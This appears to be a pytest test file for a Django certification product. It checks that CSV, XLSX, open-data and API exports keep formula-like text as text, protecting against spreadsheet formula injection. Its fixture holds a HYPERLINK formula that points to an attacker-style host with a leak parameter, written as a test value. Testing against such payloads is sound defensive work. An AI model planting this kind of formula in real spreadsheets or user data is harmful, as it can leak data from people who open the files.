"""A city types `=HYPERLINK(...)` (and a phone number starting with +) into its answers, and a city's name
carries the same: every CSV and XLSX the product makes, read back with openpyxl and opened in LibreOffice
Calc, holds that text as text, never as a formula, while negative numbers stay numbers. The assessment sheet
exported and uploaded back reads the original values. The open data's CSV starts with a byte-order mark, is
the same through the page and the API, and opened in a Korean locale reads Korean."""

from __future__ import annotations

import csv
import importlib
import io
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from citycert.assessments.workflow import ResponseInput, save_response
from citycert.certification.choices import Outcome
from citycert.certification.models import PublishedRows
from citycert.cities.models import City
from citycert.indicators.alerts import commit_and_alert
from citycert.indicators.importing.planning import plan_import
from citycert.spreadsheet_cells import header_name
from tests.certification.story import DECISION_DAY, agree, decide, item_ids, round_in_review
from tests.indicators.story import a_year_of_values, certified_cities
from tests.people import People
from tests.reports.libreoffice import cells, opened_in_calc

FORMULA = '=HYPERLINK("http://evil.example/?leak=1","근거 자료")'
PHONE = "+82 2 2155 6114"
BYTE_ORDER_MARK = b"\xef\xbb\xbf"
upgrade = importlib.import_module("citycert.certification.migrations.0007_published_rows_keep_text_as_text")


def streamed(answer: Any) -> bytes:
    return b"".join(answer.streaming_content)


def saved(tmp_path: Path, name: str, content: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(content)
    return path


def kinds_of(rows: list[list[tuple[object, str]]], value: object) -> set[str]:
    """The data types of every cell holding `value`; fails when there is none."""
    found = {kind for row in rows for cell, kind in row if cell == value}
    assert found, f"{value!r} is in no cell"
    return found


def a_formula_anywhere(rows: list[list[tuple[object, str]]]) -> list[object]:
    return [cell for row in rows for cell, kind in row if kind == "f"]


@pytest.fixture
def answered(people: People) -> People:
    save_response(
        people.draft,
        "BM.leadership",
        ResponseInput(value="2", data_source=PHONE, justification=FORMULA),
        people.officer,
    )
    return people


def test_the_assessment_csv_shows_the_text_as_text_and_reads_it_back(
    client: Client, answered: People, tmp_path: Path
) -> None:
    people = answered
    client.force_login(people.officer)
    content = client.get(f"/assessments/{people.draft.pk}/export.csv").content
    assert content.startswith(BYTE_ORDER_MARK)
    rows = {
        row["항목 / item"]: {header_name(name): value for name, value in row.items()}
        for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    }
    assert rows["BM.leadership"]["justification"] == "'" + FORMULA
    assert rows["BM.leadership"]["data_source"] == "'" + PHONE
    assert rows["BM.vision"]["value"] == "3"

    calc = cells(opened_in_calc(saved(tmp_path, "sheet.csv", content), tmp_path))
    assert a_formula_anywhere(calc) == []
    assert kinds_of(calc, "'" + FORMULA) == {"s"}
    assert kinds_of(calc, "리더십") == {"s"}  # Korean read as Korean

    before = list(people.draft.responses.order_by("item_id").values_list("item_id", "data_source", "justification"))
    preview = client.post(f"/assessments/{people.draft.pk}/import/", {"sheet": SimpleUploadedFile("a.csv", content)})
    assert preview.status_code == 200 and 'name="token"' not in preview.content.decode()  # nothing to change
    assert list(people.draft.responses.order_by("item_id").values_list("item_id", "data_source", "justification")) == (
        before
    )


def test_the_assessment_xlsx_keeps_the_text_a_text_cell_and_reads_it_back(
    client: Client, answered: People, tmp_path: Path
) -> None:
    people = answered
    client.force_login(people.officer)
    content = client.get(f"/assessments/{people.draft.pk}/export.xlsx").content
    book = load_workbook(io.BytesIO(content))
    written = cells(book, "responses")
    assert kinds_of(written, FORMULA) == {"s"} and kinds_of(written, PHONE) == {"s"}
    assert a_formula_anywhere(written) == []

    calc = cells(opened_in_calc(saved(tmp_path, "sheet.xlsx", content), tmp_path), "responses")
    assert a_formula_anywhere(calc) == []
    assert kinds_of(calc, FORMULA) == {"s"}

    preview = client.post(f"/assessments/{people.draft.pk}/import/", {"sheet": SimpleUploadedFile("a.xlsx", content)})
    assert preview.status_code == 200 and 'name="token"' not in preview.content.decode()
    assert people.draft.responses.get(item_id="BM.leadership").justification == FORMULA


def test_a_changed_formula_like_value_is_read_as_typed(client: Client, answered: People) -> None:
    """The officer edits the CSV in a text editor, writing another formula-like text with its apostrophe."""
    people = answered
    client.force_login(people.officer)
    content = client.get(f"/assessments/{people.draft.pk}/export.csv").content.decode("utf-8-sig")
    edited = content.replace("'+82 2 2155 6114", "'@구청 민원실")
    preview = client.post(
        f"/assessments/{people.draft.pk}/import/", {"sheet": SimpleUploadedFile("a.csv", edited.encode())}
    )
    assert preview.status_code == 200
    assert "@구청 민원실" in preview.content.decode() and "&#x27;@구청" not in preview.content.decode()


def test_the_round_workbook_holds_a_city_name_as_text(client: Client, people: People, tmp_path: Path) -> None:
    City.objects.filter(pk=people.seocho.pk).update(name_en=FORMULA)
    story = round_in_review(people)
    agree(story.seocho, dict.fromkeys(item_ids(), ("3", "")), people.certifier)
    decide(story.seocho, Outcome.CERTIFIED, "충족", DECISION_DAY)
    client.force_login(people.certifier)
    content = client.get(f"/certification/rounds/{story.round.pk}/results.xlsx").content
    book = load_workbook(io.BytesIO(content))
    assert kinds_of(cells(book, "applications"), FORMULA) == {"s"}
    calc = opened_in_calc(saved(tmp_path, "round.xlsx", content), tmp_path)
    assert a_formula_anywhere(cells(calc, "applications")) == []
    assert kinds_of(cells(calc, "applications"), FORMULA) == {"s"}
    assert kinds_of(cells(calc, "items"), 3) == {"n"}  # the decided points stay numbers


def test_the_monitoring_csv_holds_a_city_name_as_text_and_margins_as_numbers(
    client: Client, people: People, tmp_path: Path
) -> None:
    story = certified_cities(people)
    plan = plan_import("2026.csv", a_year_of_values(story, low_for=people.seocho.code), people.certifier, story.today)
    commit_and_alert(plan, people.certifier, keep_good_rows=False, today=story.today)
    City.objects.filter(pk=people.seocho.pk).update(name_ko=FORMULA)
    client.force_login(people.certifier)
    content = streamed(client.get("/certification/monitoring/?format=csv"))
    assert content.startswith(BYTE_ORDER_MARK)
    rows = [
        {header_name(name): value for name, value in row.items()}
        for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    ]
    seocho = next(row for row in rows if row["city_code"] == people.seocho.code)
    assert seocho["city"] == "'" + FORMULA
    assert seocho["margin"].startswith("-")  # below its bar: a negative number, written as one

    calc = cells(opened_in_calc(saved(tmp_path, "monitoring.csv", content), tmp_path))
    assert a_formula_anywhere(calc) == []
    assert kinds_of(calc, "'" + FORMULA) == {"s"}
    assert kinds_of(calc, float(seocho["margin"])) == {"n"}


def decided_with_a_formula_name(people: People) -> None:
    City.objects.filter(pk=people.seocho.pk).update(name_en=FORMULA)
    story = round_in_review(people)
    agree(story.seocho, dict.fromkeys(item_ids(), ("3", "")), people.certifier)
    decide(story.seocho, Outcome.CERTIFIED, "충족", DECISION_DAY)


@pytest.mark.parametrize("dataset", ["results", "certificates"])
def test_the_open_data_csv_reads_korean_and_holds_names_as_text(
    client: Client, people: People, tmp_path: Path, dataset: str
) -> None:
    decided_with_a_formula_name(people)
    page = streamed(client.get(f"/open-data/{dataset}.csv"))
    api = streamed(client.get(f"/api/v1/open-data/{dataset}", {"format": "csv"}))
    assert page == api
    assert page.startswith(BYTE_ORDER_MARK)
    rows = list(csv.DictReader(io.StringIO(page.decode("utf-8-sig"))))
    assert {row["city_en"] for row in rows} == {"'" + FORMULA}

    calc = cells(opened_in_calc(saved(tmp_path, f"{dataset}.csv", page), tmp_path))
    assert calc[0][0] == ("city_code" if dataset == "results" else "number", "s")  # the mark is not read as text
    assert kinds_of(calc, "서초구") == {"s"}
    assert a_formula_anywhere(calc) == []
    assert kinds_of(calc, "'" + FORMULA) == {"s"}

    # JSON lines hold the name as it is: only a spreadsheet needs it written as text.
    lines = streamed(client.get(f"/open-data/{dataset}.json")).decode().splitlines()
    assert {json.loads(line)["city_en"] for line in lines} == {FORMULA}
    parquet = pl.read_parquet(io.BytesIO(streamed(client.get(f"/open-data/{dataset}.parquet"))))
    assert set(parquet["city_en"].to_list()) == {FORMULA}


def test_rows_decided_before_the_upgrade_are_written_as_text_too(client: Client, people: People) -> None:
    decided_with_a_formula_name(people)
    written_at_decision = streamed(client.get("/open-data/results.csv"))
    # As a decision wrote them before text was kept as text: the name as typed.
    for rows in PublishedRows.objects.all():
        rows.csv = rows.csv.replace("\"'=HYPERLINK", '"=HYPERLINK')
        rows.save()
    assert "'=HYPERLINK" not in streamed(client.get("/open-data/results.csv")).decode("utf-8-sig")

    upgrade.write_text_as_text(apps, None)

    assert streamed(client.get("/open-data/results.csv")) == written_at_decision
